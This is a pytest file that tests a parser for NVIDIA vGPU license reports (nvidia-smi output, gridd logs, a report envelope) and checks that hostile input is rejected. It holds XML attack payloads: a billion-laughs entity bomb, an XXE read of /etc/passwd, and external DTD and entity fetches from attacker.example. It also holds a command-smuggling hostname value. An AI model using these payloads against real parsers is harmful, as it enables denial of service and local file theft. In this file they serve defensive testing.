"""guest_report: every real fixture through its parser, derived variants, hostile input, fuzzing."""

from __future__ import annotations

import contextlib
import datetime as dt
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from licensectl.core.guest_report import (
    MAX_PRODUCT_CHARS,
    PRODUCT_LABELS,
    SECTION_GRIDD_LOG,
    SECTION_SMI_TEXT,
    SECTION_SMI_XML,
    UNLICENSED_REASONS,
    GpuLicense,
    GriddEventKind,
    GuestReport,
    LicenseState,
    ReportError,
    ReportLimits,
    evaluate,
    implied_products,
    is_grace,
    parse_gridd_log,
    parse_license_status,
    parse_report,
    parse_smi_text,
    parse_smi_xml,
    product_label,
    render_report,
    unlicensed_reason,
    wrong_product,
)

FIXTURES = Path(__file__).resolve().parents[3] / "fixtures" / "nvidia"
UTC = dt.UTC
VWS = "NVIDIA RTX Virtual Workstation"
VCS = "NVIDIA Virtual Compute Server"
UUID = "5d307ca9-b3ef-428d-8be6-5b4c7e0ac3c2"
SHA = "ab" * 32
# Guest clock used as the year reference for syslog lines without a year.
REFERENCE = dt.datetime(2026, 5, 1, 12, 0, 0, tzinfo=UTC)


def t(year: int, month: int, day: int, hour: int = 0, minute: int = 0, second: int = 0) -> dt.datetime:
    return dt.datetime(year, month, day, hour, minute, second, tzinfo=UTC)


def fixture(name: str) -> str:
    return (FIXTURES / name).read_text(encoding="utf-8")


# ---------------------------------------------------------------------------------------------
# Real fixtures: one expectation per file, and a guard that no fixture goes unchecked.
# ---------------------------------------------------------------------------------------------

# file -> [(state, product, expiry)]
SMI_EXPECTED: dict[str, list[tuple[LicenseState, str | None, dt.datetime | None]]] = {
    "smi-q-unlicensed-vcs.txt": [(LicenseState.UNLICENSED, VCS, None)],
    "smi-q-unlicensed-restricted-vcs.txt": [(LicenseState.RESTRICTED, VCS, None)],
    "smi-q-licensed-expiry-na-vws.txt": [(LicenseState.LICENSED, VWS, None)],
    "smi-q-licensed-no-product-line.txt": [(LicenseState.LICENSED, None, t(2023, 7, 23, 13, 17, 27))],
    "smi-q-licensed-unpadded-date.txt": [(LicenseState.LICENSED, None, t(2023, 1, 14, 12, 59, 52))],
    "smi-qx-licensed-l40s-2q-trimmed.xml": [(LicenseState.LICENSED, VWS, t(2026, 7, 7, 16, 1, 44))],
}

# file -> [(kind, at, server, product, expiry)]
LOG_EXPECTED: dict[str, list[tuple[GriddEventKind, dt.datetime | None, str | None, str | None,
                                   dt.datetime | None]]] = {
    "gridd-log-acquired-cls.txt": [
        (GriddEventKind.ACQUIRED, t(2026, 4, 2, 19, 11, 16), "api.cls.licensing.nvidia.com", VCS,
         t(2026, 4, 3, 19, 11, 16)),
    ],
    "gridd-log-acquired-dls-no-timestamps.txt": [
        (GriddEventKind.ACQUIRED, None, "license.nvidia.space", VWS, t(2023, 1, 29, 22, 3, 0)),
    ],
    "gridd-log-corrupt-token-shutdown.txt": [
        (GriddEventKind.TOKEN_CORRUPT, t(2026, 3, 31, 6, 53, 50), None, None, None),
        (GriddEventKind.TOKEN_CORRUPT, t(2026, 3, 31, 6, 53, 50), None, None, None),
        (GriddEventKind.SHUTDOWN, t(2026, 3, 31, 6, 53, 50), None, None, None),
    ],
    "gridd-log-missing-gridd-conf.txt": [(GriddEventKind.CONFIG_MISSING, None, None, None, None)],
    # October is after the May reference: the year before.
    "gridd-log-missing-token.txt": [(GriddEventKind.TOKEN_MISSING, t(2025, 10, 18, 6, 55, 46), None, None, None)],
    "gridd-log-register-failure.txt": [
        (GriddEventKind.FAILED, t(2025, 10, 12, 17, 22, 37), None, None, None),
        (GriddEventKind.FAILED, t(2025, 10, 12, 17, 22, 37), "XXX.XXX.XXX.XXX", None, None),
    ],
    # A CLS instance without a vWS pool (Windows format: the time stays as logged until a report's UTC
    # offset moves it).
    "gridd-log-no-pool-windows-format.txt": [
        (GriddEventKind.FAILED, t(2025, 1, 21, h, m, s), "api.cls.licensing.nvidia.com", VWS, None)
        for h, m, s in ((19, 54, 14), (19, 54, 38), (19, 55, 6), (19, 55, 39))],
    "gridd-log-renew-return-windows-format.txt": [
        (GriddEventKind.RETURNED, t(2022, 12, 20, 5, 55, 58), "192.168.178.33", None, None),
        (GriddEventKind.RENEWED, t(2022, 12, 20, 5, 56, 54), "192.168.178.33", VWS, t(2022, 12, 20, 5, 11, 54)),
        (GriddEventKind.RENEWED, t(2022, 12, 20, 5, 59, 20), "192.168.178.33", VWS, t(2022, 12, 20, 5, 14, 20)),
    ],
    "gridd-log-unlicensed-warning.txt": [(GriddEventKind.NOT_FOUND, t(2025, 5, 22, 2, 46, 38), None, None, None)],
}


def test_every_fixture_has_an_expectation() -> None:
    files = {p.name for p in FIXTURES.iterdir() if p.name != "README.md"}
    assert files == set(SMI_EXPECTED) | set(LOG_EXPECTED)


@pytest.mark.parametrize("name", sorted(SMI_EXPECTED))
def test_smi_fixture(name: str) -> None:
    path = FIXTURES / name
    gpus = parse_smi_xml(path.read_bytes()) if path.suffix == ".xml" else parse_smi_text(fixture(name))
    assert [(g.state, g.product, g.expiry) for g in gpus] == SMI_EXPECTED[name]
    assert all(not g.grace for g in gpus)


def test_smi_xml_fixture_identifiers() -> None:
    (g,) = parse_smi_xml((FIXTURES / "smi-qx-licensed-l40s-2q-trimmed.xml").read_bytes())
    assert g.driver_version == "580.105.08"
    assert g.pci_id == "00000000:00:07.0"
    assert g.gpu_name == "NVIDIA L40S-2Q"
    assert g.raw_status == "Licensed (Expiry: 2026-7-7 16:1:44 GMT)"


def test_smi_text_fixture_keeps_raw_status() -> None:
    (g,) = parse_smi_text(fixture("smi-q-licensed-expiry-na-vws.txt"))
    assert g.raw_status == "Licensed (Expiry: N/A)"


@pytest.mark.parametrize("name", sorted(LOG_EXPECTED))
def test_gridd_log_fixture(name: str) -> None:
    events = parse_gridd_log(fixture(name).splitlines(), reference=REFERENCE)
    assert [(e.kind, e.at, e.server, e.product, e.expiry) for e in events] == LOG_EXPECTED[name]


def test_gridd_log_without_reference_leaves_yearless_times_unknown() -> None:
    (e,) = parse_gridd_log(fixture("gridd-log-missing-token.txt").splitlines())
    assert e.kind is GriddEventKind.TOKEN_MISSING and e.at is None


def test_gridd_log_ignores_other_daemons() -> None:
    lines = fixture("gridd-log-acquired-cls.txt").splitlines()
    assert not parse_gridd_log([ln for ln in lines if "systemd[1]" in ln], reference=REFERENCE)


def test_gridd_log_derived_iso_journal_format() -> None:
    # Derived from gridd-log-acquired-cls.txt: the same line as `journalctl -o short-iso --utc` prints it.
    line = ("2026-04-02T19:11:16+00:00 vgpudoc nvidia-gridd[837]: License acquired successfully. "
            "(Info: api.cls.licensing.nvidia.com, NVIDIA Virtual Compute Server; Expiry: 2026-4-3 19:11:16 GMT)")
    (e,) = parse_gridd_log([line])
    assert e.kind is GriddEventKind.ACQUIRED and e.at == t(2026, 4, 2, 19, 11, 16)
    assert e.expiry == t(2026, 4, 3, 19, 11, 16) and e.product == VCS


def test_gridd_log_failed_with_info_derived() -> None:
    # Derived from the documented message shape (docs/design.md#gridd-log).
    line = "nvidia-gridd[1]: Failed to acquire license from dls.example (Info: NVIDIA Virtual PC - Error: timeout)"
    (e,) = parse_gridd_log([line])
    assert (e.kind, e.server, e.product) == (GriddEventKind.FAILED, "dls.example", "NVIDIA Virtual PC")


# ---------------------------------------------------------------------------------------------
# License status strings
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "state", "expiry", "grace"),
    [
        ("Licensed (Expiry: 2026-7-7 16:1:44 GMT)", LicenseState.LICENSED, t(2026, 7, 7, 16, 1, 44), False),
        ("Licensed (Expiry: 2023-12-31 23:59:59 GMT)", LicenseState.LICENSED, t(2023, 12, 31, 23, 59, 59), False),
        ("Licensed (Expiry: N/A)", LicenseState.LICENSED, None, False),
        ("Licensed", LicenseState.LICENSED, None, False),
        ("Licensed (Expiry: 2026-13-7 16:1:44 GMT)", LicenseState.LICENSED, None, False),
        ("Unlicensed", LicenseState.UNLICENSED, None, False),
        ("Unlicensed (Unrestricted)", LicenseState.UNLICENSED, None, True),
        ("Unlicensed (Restricted)", LicenseState.RESTRICTED, None, False),
        ("Unknown", LicenseState.UNKNOWN, None, False),
        ("N/A", LicenseState.UNKNOWN, None, False),
        ("", LicenseState.UNKNOWN, None, False),
        ("Licensed (Expiry: 2026-7-7 16:1:44 PST)", LicenseState.LICENSED, None, False),
    ],
)
def test_parse_license_status(raw: str, state: LicenseState, expiry: dt.datetime | None, grace: bool) -> None:
    assert parse_license_status(raw) == (state, expiry)
    assert is_grace(raw) is grace


# ---------------------------------------------------------------------------------------------
# Derived XML variants and hostile XML
# ---------------------------------------------------------------------------------------------

XML = (FIXTURES / "smi-qx-licensed-l40s-2q-trimmed.xml").read_bytes()


def derived_xml(status: str) -> bytes:
    """The real XML fixture with <license_status> swapped (a derived, not a real, sample)."""
    return XML.replace(b"Licensed (Expiry: 2026-7-7 16:1:44 GMT)", status.encode())


def test_derived_xml_restricted() -> None:
    (g,) = parse_smi_xml(derived_xml("Unlicensed (Restricted)"))
    assert (g.state, g.product, g.expiry) == (LicenseState.RESTRICTED, VWS, None)


def test_derived_xml_with_real_nvidia_doctype_is_accepted() -> None:
    # nvidia-smi prints this DOCTYPE line (see apache/hadoop GpuDeviceInformationParser.java).
    xml = XML.replace(b'<?xml version="1.0" ?>\n',
                      b'<?xml version="1.0" ?>\n<!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v12.dtd">\n')
    assert xml != XML
    (g,) = parse_smi_xml(xml)
    assert g.state is LicenseState.LICENSED and g.expiry == t(2026, 7, 7, 16, 1, 44)


def test_derived_xml_two_gpus_one_without_license_section() -> None:
    second = b'<gpu id="00000000:00:08.0"><uuid>GPU-1234</uuid><product_name>NVIDIA A10</product_name></gpu>'
    xml = XML.replace(b"</nvidia_smi_log>", second + b"</nvidia_smi_log>")
    a, b = parse_smi_xml(xml)
    assert a.state is LicenseState.LICENSED
    assert (b.state, b.pci_id, b.gpu_uuid, b.raw_status) == (LicenseState.UNKNOWN, "00000000:00:08.0", "GPU-1234", "")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<nvidia_smi_log><driver_version>&lol3;</driver_version></nvidia_smi_log>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE nvidia_smi_log [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<nvidia_smi_log><driver_version>&xxe;</driver_version></nvidia_smi_log>"""
NVIDIA_NAME_WITH_SUBSET = b"""<!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v12.dtd" [<!ENTITY a "b">]>
<nvidia_smi_log/>"""
EXTERNAL_DTD = b"""<!DOCTYPE nvidia_smi_log SYSTEM "http://attacker.example/evil.dtd"><nvidia_smi_log/>"""
PARAMETER_ENTITY = b"""<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><x/>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, XXE, NVIDIA_NAME_WITH_SUBSET, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "xxe", "subset-after-nvidia-doctype", "external-dtd",
                              "parameter-entity"])
def test_hostile_xml_is_forbidden(xml: bytes) -> None:
    with pytest.raises(ReportError) as e:
        parse_smi_xml(xml)
    assert e.value.reason == "xml_forbidden"
    assert b"passwd" not in str(e.value).encode() and "attacker" not in str(e.value)


@pytest.mark.parametrize("xml", [b"", b"garbage", XML[: len(XML) // 2], b"<a><b></a>", b"<other_root/>"],
                         ids=["empty", "garbage", "truncated", "mismatched", "wrong-root"])
def test_malformed_xml(xml: bytes) -> None:
    with pytest.raises(ReportError) as e:
        parse_smi_xml(xml)
    assert e.value.reason == "bad_xml"


def test_oversized_xml() -> None:
    with pytest.raises(ReportError) as e:
        parse_smi_xml(XML + b" " * 2048, ReportLimits(max_body_bytes=2048))
    assert e.value.reason == "too_large"


def test_too_many_gpus() -> None:
    gpus = b"".join(b'<gpu id="%d"/>' % i for i in range(5))
    with pytest.raises(ReportError) as e:
        parse_smi_xml(b"<nvidia_smi_log>" + gpus + b"</nvidia_smi_log>", ReportLimits(max_gpus=4))
    assert e.value.reason == "bad_format"


def test_long_product_is_bounded() -> None:
    xml = XML.replace(VWS.encode(), b"X" * 5000 + b"\xe2\x98\x83")
    (g,) = parse_smi_xml(xml)
    assert g.product is not None and len(g.product) == MAX_PRODUCT_CHARS and g.product.isascii()


# ---------------------------------------------------------------------------------------------
# Derived full `nvidia-smi -q` text
# ---------------------------------------------------------------------------------------------

# Derived: the envelope of `nvidia-smi -q` (header, Driver Version, GPU sections with a board
# Product Name) around two license sections in the fixture's format.
DERIVED_TEXT = """
==============NVSMI LOG==============

Timestamp                                 : Thu Jan 30 16:14:43 2025
Driver Version                            : 550.127.05
CUDA Version                              : 12.4

Attached GPUs                             : 2
GPU 00000000:02:00.0
    Product Name                          : NVIDIA A16-4Q
    GPU UUID                              : GPU-1b724e78-eef5-4163-d43c-e4da15d41176
    vGPU Software Licensed Product
        Product Name                      : NVIDIA RTX Virtual Workstation
        License Status                    : Licensed (Expiry: 2026-7-7 16:1:44 GMT)
    Serial Number                         : N/A
GPU 00000000:03:00.0
    Product Name                          : NVIDIA A16-4Q
    vGPU Software Licensed Product
        Product Name                      : NVIDIA RTX Virtual Workstation
        License Status                    : Unlicensed (Unrestricted)
    Minor Number                          : 1
"""


def test_derived_full_text() -> None:
    a, b = parse_smi_text(DERIVED_TEXT)
    assert (a.pci_id, a.gpu_uuid, a.gpu_name, a.driver_version) == (
        "00000000:02:00.0", "GPU-1b724e78-eef5-4163-d43c-e4da15d41176", "NVIDIA A16-4Q", "550.127.05")
    assert (a.state, a.product, a.expiry) == (LicenseState.LICENSED, VWS, t(2026, 7, 7, 16, 1, 44))
    assert (b.pci_id, b.state, b.grace, b.gpu_uuid) == ("00000000:03:00.0", LicenseState.UNLICENSED, True, None)


def test_text_without_license_section_reports_unknown_gpu() -> None:
    (g,) = parse_smi_text("GPU 00000000:02:00.0\n    Product Name : NVIDIA A10\n")
    assert (g.state, g.product, g.gpu_name) == (LicenseState.UNKNOWN, None, "NVIDIA A10")


# ---------------------------------------------------------------------------------------------
# The report envelope
# ---------------------------------------------------------------------------------------------


def body(**overrides: object) -> bytes:
    args: dict[str, object] = {
        "uuid": UUID, "hostname": "vm-1", "clock": 1_777_000_000, "token_sha256": SHA, "probe_version": "1.0",
        "sections": [(SECTION_SMI_XML, XML.decode()), (SECTION_GRIDD_LOG, fixture("gridd-log-acquired-cls.txt"))],
    }
    args.update(overrides)
    return render_report(**args)  # type: ignore[arg-type]


def test_report_round_trip() -> None:
    r = parse_report(body())
    assert (r.uuid, r.hostname, r.token_sha256, r.probe_version, r.smi_format) == (UUID, "vm-1", SHA, "1.0", "xml")
    assert r.clock == dt.datetime.fromtimestamp(1_777_000_000, tz=UTC)
    assert [(g.state, g.product) for g in r.gpus] == [(LicenseState.LICENSED, VWS)]
    assert [e.kind for e in r.events] == [GriddEventKind.ACQUIRED]
    # The guest clock (2026-04-24) supplies the syslog year.
    assert r.events[0].at == t(2026, 4, 2, 19, 11, 16)


def test_report_text_section_no_token_uppercase_uuid() -> None:
    r = parse_report(body(uuid=UUID.upper(), token_sha256=None,
                          sections=[(SECTION_SMI_TEXT, fixture("smi-q-unlicensed-restricted-vcs.txt"))]))
    assert (r.uuid, r.token_sha256, r.smi_format) == (UUID, None, "text")
    assert [g.state for g in r.gpus] == [LicenseState.RESTRICTED] and r.events == ()


def test_report_without_smi_section() -> None:
    r = parse_report(body(sections=[]))
    assert (r.smi_format, r.gpus, r.events) == (None, (), ())


def test_report_tolerates_crlf_headers() -> None:
    assert parse_report(body().replace(b"\n", b"\r\n", 6)).uuid == UUID


GOOD = body()


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"", "bad_format"),
        (b"\xff\xfe garbage", "bad_encoding"),
        (GOOD.replace(b"vm-1", b"vm\x00"), "bad_encoding"),
        (GOOD.replace(b"vm-1", b"vm\xc3"), "bad_encoding"),
        (GOOD[: len(GOOD) // 2], "bad_format"),  # truncated: no end marker
        (GOOD.replace(b"--- end\n", b""), "bad_format"),
        (GOOD + b"trailing\n", "bad_format"),
        (GOOD.replace(b"licensectl-report: 2", b"licensectl-report: 3"), "bad_format"),
        (GOOD.replace(b"licensectl-report: 2\n", b""), "bad_format"),
        (GOOD.replace(b"nvidia-smi: ok", b"nvidia-smi: maybe"), "bad_field"),
        (GOOD.replace(b"nvidia-smi: ok\n", b""), "bad_field"),  # version 2 must say
        (GOOD.replace(b"nvidia-smi: ok", b"nvidia-smi: missing"), "bad_format"),  # yet a section
        (body(sections=[], smi_status="ok"), "bad_format"),  # ok without a section
        (body(format_version=1, sections=[]).replace(b"probe-version", b"nvidia-smi: missing\nprobe-version"),
         "bad_field"),  # the header needs version 2
        (b"uuid: x\n" + GOOD, "bad_format"),
        (GOOD.replace(b"hostname: vm-1", b"hostname: vm-1\nhostname: vm-2"), "bad_format"),
        (GOOD.replace(b"hostname: vm-1", b"colour: blue"), "bad_field"),
        (GOOD.replace(b"hostname: vm-1", b"hostname vm-1"), "bad_format"),
        (GOOD.replace(b"--- gridd-log", b"--- secrets"), "bad_format"),
        (GOOD.replace(b"--- gridd-log", b"--- nvidia-smi-xml"), "bad_format"),
        (GOOD.replace(b"--- gridd-log", b"--- nvidia-smi-text"), "bad_format"),
        (GOOD.replace(UUID.encode(), b"not-a-uuid"), "bad_field"),
        (GOOD.replace(b"hostname: vm-1", b"hostname: vm 1;rm"), "bad_field"),
        (GOOD.replace(b"clock: 1777000000", b"clock: -5"), "bad_field"),
        (GOOD.replace(b"clock: 1777000000", b"clock: 99999999999999"), "bad_field"),
        (GOOD.replace(b"clock: 1777000000", b"clock: \xd9\xa1"), "bad_field"),  # Arabic-Indic digit
        (GOOD.replace(SHA.encode(), b"A" * 64), "bad_field"),
        (GOOD.replace(b"probe-version: 1.0", b"probe-version: "), "bad_field"),
        (GOOD.replace(b"hostname: vm-1", b"hostname: " + b"a" * 400), "bad_field"),
        (GOOD.replace(b"NVIDIA L40S-2Q", b"&xxe;").replace(b'<?xml version="1.0" ?>', XXE.split(b"\n")[1]),
         "xml_forbidden"),
        (body(sections=[(SECTION_SMI_XML, BILLION_LAUGHS.decode())]), "xml_forbidden"),
        (body(sections=[(SECTION_SMI_XML, "garbage <<")]), "bad_xml"),
        (body(sections=[(SECTION_GRIDD_LOG, "x" * 5000)]), "bad_field"),
        (body(sections=[(SECTION_GRIDD_LOG, "line\n" * 201)]), "too_large"),
        (GOOD + b" " * (512 * 1024), "too_large"),
        (b"licensectl-report: 1\n" * 40, "bad_format"),
    ],
)
def test_report_rejections(raw: bytes, reason: str) -> None:
    with pytest.raises(ReportError) as e:
        parse_report(raw)
    assert e.value.reason == reason


@pytest.mark.parametrize(
    "raw",
    [
        GOOD.replace(b"hostname: vm-1", b"zm9vymfyymf6cxv4c2vjcmv0: 1"),  # unknown key
        GOOD.replace(b"hostname: vm-1", b"hostname: vm-1\nhostname: zm9vymfyymf6cxv4c2vjcmv0"),
        GOOD.replace(b"vm-1", b"zm9vymfyymf6cxv4c2vjcmv0!"),
        GOOD.replace(b"--- gridd-log", b"--- zm9vymfyymf6cxv4c2vjcmv0"),
    ],
)
def test_report_error_never_quotes_input(raw: bytes) -> None:
    with pytest.raises(ReportError) as e:
        parse_report(raw)
    assert "zm9vymfyymf6cxv4c2vjcmv0" not in str(e.value)


def test_report_error_rejects_unknown_reason() -> None:
    with pytest.raises(ValueError, match="unknown report error reason"):
        ReportError("made_up", "x")


# ---------------------------------------------------------------------------------------------
# Evaluation
# ---------------------------------------------------------------------------------------------


def gpu(state: LicenseState, expiry: dt.datetime | None = None, product: str | None = VWS,
        grace: bool = False) -> GpuLicense:
    return GpuLicense(product=product, state=state, expiry=expiry, raw_status=str(state),
                      driver_version="550.1", grace=grace)


def report(*gpus: GpuLicense, token: str | None = SHA, clock: dt.datetime = REFERENCE) -> GuestReport:
    return GuestReport(format_version=1, uuid=UUID, hostname="vm-1", clock=clock, token_sha256=token,
                       probe_version="1.0", smi_format="xml", gpus=gpus, events=())


def test_evaluate_licensed_current_token() -> None:
    now = REFERENCE + dt.timedelta(seconds=30)
    s = evaluate(report(gpu(LicenseState.LICENSED, t(2026, 7, 7))), current_token_sha256=SHA.upper(), now=now)
    assert (s.state, s.product, s.expiry, s.driver_version, s.gpu_count) == (
        LicenseState.LICENSED, VWS, t(2026, 7, 7), "550.1", 1)
    assert s.token_current is True and s.clock_skew_seconds == -30.0 and s.reported_at == now


def test_evaluate_expired_when_expiry_passed() -> None:
    s = evaluate(report(gpu(LicenseState.LICENSED, t(2026, 4, 1))), current_token_sha256=None, now=REFERENCE)
    assert s.state is LicenseState.EXPIRED and s.token_current is False


def test_evaluate_worst_gpu_and_earliest_expiry() -> None:
    r = report(gpu(LicenseState.LICENSED, t(2026, 9, 1)),
               gpu(LicenseState.RESTRICTED, product=VCS),
               gpu(LicenseState.LICENSED, t(2026, 8, 1)),
               gpu(LicenseState.UNLICENSED, grace=True))
    s = evaluate(r, current_token_sha256="cd" * 32, now=REFERENCE)
    assert (s.state, s.product, s.expiry, s.grace, s.token_current) == (
        LicenseState.RESTRICTED, VCS, t(2026, 8, 1), True, False)


def test_evaluate_no_gpus_is_unknown() -> None:
    s = evaluate(report(token=None), current_token_sha256=None, now=REFERENCE)
    assert (s.state, s.product, s.expiry, s.gpu_count, s.token_current) == (LicenseState.UNKNOWN, None, None, 0, False)


def test_evaluate_from_fixture_report() -> None:
    r = parse_report(body(sections=[(SECTION_SMI_XML, XML.decode()),
                                    (SECTION_GRIDD_LOG, fixture("gridd-log-renew-return-windows-format.txt"))]))
    s = evaluate(r, current_token_sha256=SHA, now=t(2026, 7, 8))
    assert (s.state, s.last_event, s.last_event_at) == (
        LicenseState.EXPIRED, GriddEventKind.RENEWED, t(2022, 12, 20, 5, 59, 20))


def test_product_label_is_bounded() -> None:
    assert product_label(VWS) == "vws" and product_label("nvidia  virtual compute server ") == "vcs"
    assert product_label(None) == "none" and product_label("x" * 10_000) == "other"
    assert {product_label(p) for p in (VWS, VCS, "NVIDIA Virtual PC", "NVIDIA Virtual Applications",
                                       "NVIDIA AI Enterprise", "junk", None)} <= PRODUCT_LABELS


# ---------------------------------------------------------------------------------------------
# Fuzzing: nothing but ReportError escapes, whatever the guest sends.
# ---------------------------------------------------------------------------------------------

FUZZ = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
fragments = st.sampled_from([
    b"licensectl-report: 1\n", b"uuid: " + UUID.encode() + b"\n", b"clock: 1\n", b"hostname: h\n",
    b"token-sha256: none\n", b"probe-version: 1\n", b"--- nvidia-smi-xml\n", b"--- nvidia-smi-text\n",
    b"--- gridd-log\n", b"--- end\n", XML, b"<!DOCTYPE x>", b"&lol;", b"\xff", b"\x00", b"\r\n",
    fixture("smi-q-licensed-unpadded-date.txt").encode(), fixture("gridd-log-acquired-cls.txt").encode(),
])


@FUZZ
@given(st.lists(st.one_of(fragments, st.binary(max_size=40)), max_size=12))
def test_fuzz_parse_report(parts: list[bytes]) -> None:
    with contextlib.suppress(ReportError):
        parse_report(b"".join(parts))


@FUZZ
@given(st.one_of(st.binary(max_size=400),
                 st.lists(st.sampled_from([b"<nvidia_smi_log>", b"</nvidia_smi_log>", b"<gpu id='x'>", b"</gpu>",
                                           b"<vgpu_software_licensed_product>", b"<license_status>",
                                           b"</license_status>", b"Licensed (Expiry: 2026-7-7 16:1:44 GMT)",
                                           b"<!DOCTYPE nvidia_smi_log SYSTEM \"nvsmi_device_v12.dtd\">",
                                           b"<!ENTITY a 'b'>", b"&a;", b"\xff"]), max_size=20).map(b"".join)))
def test_fuzz_parse_smi_xml(xml: bytes) -> None:
    with contextlib.suppress(ReportError):
        parse_smi_xml(xml)


@FUZZ
@given(st.one_of(st.text(max_size=400),
                 st.lists(st.sampled_from(["GPU 00000000:02:00.0\n", "    vGPU Software Licensed Product\n",
                                           "vGPU Software Licensed Product\n", "  Product Name : x\n",
                                           "        License Status : Licensed (Expiry: 2026-2-30 1:1:1 GMT)\n",
                                           "Driver Version : 1\n", ":\n", "\t\n", "\u2028"]),
                          max_size=30).map("".join)))
def test_fuzz_parse_smi_text(text: str) -> None:
    try:
        gpus = parse_smi_text(text)
    except ReportError:
        return
    assert all(g.product is None or len(g.product) <= MAX_PRODUCT_CHARS for g in gpus)


# ---------------------------------------------------------------------------------------------
# Format 2: driver missing, grace, gridd's reason, product implied by the class
# ---------------------------------------------------------------------------------------------


def test_version_1_report_still_accepted() -> None:
    """Probes installed before format 2 keep working; they cannot say "driver missing"."""
    raw = body(format_version=1)
    assert raw.startswith(b"licensectl-report: 1\n") and b"nvidia-smi:" not in raw
    r = parse_report(raw)
    assert (r.format_version, r.smi_status, r.smi_format) == (1, None, "xml")
    bare = parse_report(body(format_version=1, sections=[]))
    assert evaluate(bare, current_token_sha256=None, now=REFERENCE).state is LicenseState.UNKNOWN


def test_driver_missing_is_its_own_state() -> None:
    r = parse_report(body(sections=[], smi_status="missing"))
    assert (r.format_version, r.smi_status, r.gpus) == (2, "missing", ())
    s = evaluate(r, current_token_sha256=SHA, now=REFERENCE)
    assert (s.state, s.reason, s.token_current) == (LicenseState.DRIVER_MISSING, None, True)


def test_smi_failed_is_unknown_not_driver_missing() -> None:
    r = parse_report(body(sections=[]))
    assert r.smi_status == "failed"
    assert evaluate(r, current_token_sha256=None, now=REFERENCE).state is LicenseState.UNKNOWN


def test_grace_is_its_own_state_below_unlicensed() -> None:
    assert evaluate(report(gpu(LicenseState.UNLICENSED, grace=True)), current_token_sha256=None,
                    now=REFERENCE).state is LicenseState.GRACE
    both = report(gpu(LicenseState.UNLICENSED, grace=True), gpu(LicenseState.UNLICENSED))
    assert evaluate(both, current_token_sha256=None, now=REFERENCE).state is LicenseState.UNLICENSED


@pytest.mark.parametrize(
    ("log", "reason"),
    [
        ("gridd-log-missing-token.txt", "token_missing"),
        ("gridd-log-corrupt-token-shutdown.txt", "token_corrupt"),
        ("gridd-log-missing-gridd-conf.txt", "config_missing"),
        ("gridd-log-register-failure.txt", "acquire_failed"),
        ("gridd-log-unlicensed-warning.txt", "not_found"),
        ("gridd-log-acquired-cls.txt", "unknown"),  # the license was acquired: the log names no cause
    ],
)
def test_unlicensed_reason_from_recorded_logs(log: str, reason: str) -> None:
    events = parse_gridd_log(fixture(log).splitlines(), reference=REFERENCE)
    assert unlicensed_reason(events) == reason


def test_unlicensed_reason_root_cause_wins_and_acquire_resets() -> None:
    lines = ["nvidia-gridd: Valid GRID license not found. x", "nvidia-gridd: Unable to fetch the client "
             "configuration token file", "nvidia-gridd: Failed to acquire license from 10.0.0.1"]
    assert unlicensed_reason(parse_gridd_log(lines)) == "token_missing"
    later = [*lines, "nvidia-gridd: License acquired successfully. (Info: 10.0.0.1, NVIDIA Virtual Compute Server; "
             "Expiry: 2026-4-3 0:0:0 GMT)", "nvidia-gridd: Valid GRID license not found. x"]
    assert unlicensed_reason(parse_gridd_log(later)) == "not_found"


@given(st.lists(st.sampled_from([
    *fixture("gridd-log-missing-token.txt").splitlines(), *fixture("gridd-log-corrupt-token-shutdown.txt").splitlines(),
    *fixture("gridd-log-register-failure.txt").splitlines(), *fixture("gridd-log-acquired-cls.txt").splitlines(),
    "nvidia-gridd: Valid GRID license not found. x", "garbage \x00 line"]), max_size=30))
def test_unlicensed_reason_is_always_a_bounded_label(lines: list[str]) -> None:
    """The reason becomes a metric label: it must come from the closed set, whatever the log says."""
    assert unlicensed_reason(parse_gridd_log(lines, reference=REFERENCE)) in UNLICENSED_REASONS


def test_evaluate_reason_only_without_license() -> None:
    r = parse_report(body(sections=[(SECTION_SMI_TEXT, fixture("smi-q-unlicensed-vcs.txt")),
                                    (SECTION_GRIDD_LOG, "nvidia-gridd: Unable to fetch the client configuration "
                                                        "token file")]))
    s = evaluate(r, current_token_sha256=None, now=REFERENCE)
    assert (s.state, s.reason) == (LicenseState.UNLICENSED, "token_missing")
    expired = evaluate(report(gpu(LicenseState.LICENSED, t(2026, 4, 1))), current_token_sha256=None, now=REFERENCE)
    assert (expired.state, expired.reason) == (LicenseState.EXPIRED, "lease_expired")
    ok = evaluate(report(gpu(LicenseState.LICENSED, t(2026, 9, 1))), current_token_sha256=None, now=REFERENCE)
    assert ok.reason is None


@pytest.mark.parametrize(
    ("product", "feature_type", "wrong"),
    [
        (VWS, 4, True),  # compute class holding a workstation license: the dearer pool
        (VCS, 4, False),
        ("NVIDIA AI Enterprise", 4, False),
        (VCS, 2, True),
        (VWS, 2, False),
        (VWS, 1, None),  # gridd picks the product from the vGPU type: the class implies nothing
        (VWS, None, None),  # class unknown
        (None, 4, None),  # nothing held
    ],
)
def test_wrong_product(product: str | None, feature_type: int | None, wrong: bool | None) -> None:
    assert wrong_product(product, feature_type) is wrong


def test_implied_products() -> None:
    assert implied_products(2) == {"vws"} and implied_products(4) == {"vcs", "nvaie"}
    assert implied_products(1) is None and implied_products(0) is None


# The section splitter scans for marker lines instead of walking every line: its edges.
@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (GOOD.replace(b"--- gridd-log\n", b"--- gridd-log\n--- gridd-log\n"), "bad_format"),  # adjacent duplicate
        (GOOD + b"--- gridd-log\n", "bad_format"),  # a marker after the end marker
        (GOOD.replace(b"--- end\n", b"--- end"), None),  # end marker without a final newline
        (GOOD + b"\n \r\n\t\n", None),  # blank lines after the end marker
